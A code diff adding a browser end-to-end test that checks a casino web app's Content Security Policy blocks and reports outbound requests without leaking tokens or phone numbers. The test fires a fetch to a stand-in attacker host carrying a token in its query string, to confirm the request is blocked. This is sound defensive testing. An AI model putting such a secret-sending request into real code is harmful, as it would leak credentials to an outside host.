@@ -91,3 +91,22 @@ test('the app starts while every third party hangs, and a visitor can sign up an
   await expect(casino.frame.heading('Slots')).toBeVisible()
   await expect.poll(() => asked.size).toBe(2)
 })
+
+test('what the policy has blocked is reported by directive and origin, without addresses', async ({
+  casino,
+  control,
+  page,
+  quiet,
+}) => {
+  quiet.allow(/Content Security Policy|violates the following/)
+  await casino.open('/faq?phone=77010000001')
+  await expect(casino.frame.heading(say('nav.faq'))).toBeVisible()
+  const report = async () => (await control.requests({ path: '/envelope/$' })).map(({ body }) => body ?? '').join()
+  await expect
+    .poll(async () => {
+      await page.evaluate(() => fetch('https://evil.example/?token=secret').catch(() => undefined))
+      return report()
+    })
+    .toContain('policy: connect-src blocked https://evil.example')
+  expect(await report()).not.toMatch(/secret|77010000001/)
+})
